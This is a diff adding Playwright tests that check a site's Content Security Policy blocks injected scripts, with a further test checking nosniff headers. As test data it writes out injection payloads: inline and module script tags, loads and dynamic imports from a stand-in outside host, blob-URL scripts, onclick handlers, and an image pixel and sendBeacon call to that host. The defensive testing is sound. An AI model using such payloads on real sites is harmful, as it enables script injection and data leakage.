@@ -4,6 +4,7 @@ import { deepUnless } from '../support/deep';
 import type { Page } from '@playwright/test';
 import { expect, test } from '../support/fixtures';
 import { injectedCode, injections } from '../support/injections';
+import { runAsRemote } from '../support/run-as-remote';
 
 /** Every violation that the browser reports, by its directive, with the start of what was blocked. */
 async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
@@ -58,6 +59,56 @@ test.describe('injected markup', () => {
     await expect.poll(violations).toEqual(expect.arrayContaining(['script-src-elem', 'form-action']));
     await expect(page.locator('html')).not.toHaveAttribute('data-injected');
     await expect(page).toHaveURL(/\/about$/);
+  });
+});
+
+test.describe('a script of a remote', () => {
+  test.use({ expectedMessages: [/Content Security Policy|violat|Failed to load resource|MIME type/i] });
+
+  test('may add a file of this site, but neither an inline script nor anything of other sites', async ({
+    page,
+  }) => {
+    const violations = await watchViolations(page);
+    const reached: string[] = [];
+    await page.route('https://elsewhere.example/**', (route) => {
+      reached.push(route.request().url());
+      return route.fulfill({ contentType: 'text/javascript', body: injectedCode });
+    });
+    await page.goto('/about');
+    const add = (expected: string, code: string) =>
+      test.step(code, async () => {
+        await runAsRemote(page, 'catalogue', code);
+        await expect.poll(async () => (await violations()).at(-1)).toBe(expected);
+        await page.evaluate(
+          () => ((globalThis as unknown as { seenViolations: string[] }).seenViolations.length = 0),
+        );
+      });
+    const append = (properties: string) =>
+      `document.head.append(Object.assign(document.createElement('script'), ${properties}))`;
+    const code = JSON.stringify(injectedCode);
+    await add('script-src-elem', append(`{ text: ${code} }`));
+    await add('script-src-elem', append(`{ type: 'module', text: ${code} }`));
+    await add('script-src-elem', append("{ src: 'https://elsewhere.example/a.js' }"));
+    await add('script-src-elem', append(`{ src: URL.createObjectURL(new Blob([${code}])) }`));
+    await add('script-src-elem', "import('https://elsewhere.example/a.js').catch(() => undefined)");
+    await add('script-src-attr', `document.body.setAttribute('onclick', ${code})`);
+    await add('img-src', "new Image().src = 'https://elsewhere.example/pixel.gif'");
+    await add('connect-src', "navigator.sendBeacon('https://elsewhere.example/')");
+    await add('worker-src', `new Worker(URL.createObjectURL(new Blob([''])))`);
+    await expect(page.locator('html')).not.toHaveAttribute('data-injected');
+    expect(reached).toEqual([]);
+    await runAsRemote(page, 'catalogue', injectedCode);
+    await expect(page.locator('html')).toHaveAttribute('data-injected');
+  });
+
+  test('cannot run as a script what the site sends as something else', async ({ page }) => {
+    await page.goto('/about');
+    for (const path of ['/api/products', '/composition.json', '/about', '/robots.txt', '/site.webmanifest']) {
+      const type = (await page.request.get(path)).headers()['x-content-type-options'];
+      expect([path, type]).toEqual([path, 'nosniff']);
+      const added = page.addScriptTag({ url: path });
+      await expect(added, path).rejects.toThrow();
+    }
   });
 });
 
